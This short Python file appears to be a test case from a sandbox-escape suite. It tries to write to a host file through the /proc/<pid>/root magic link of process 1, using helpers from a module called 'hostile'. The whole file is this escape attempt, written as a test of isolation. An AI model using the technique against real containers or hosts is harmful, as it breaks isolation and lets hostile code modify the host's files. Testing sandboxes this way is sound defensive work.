"""Write to the host's files through the magic link to the root of process 1."""

from hostile import bait, put

put(f"/proc/{bait.pid}/root{bait.file}", "hostile")
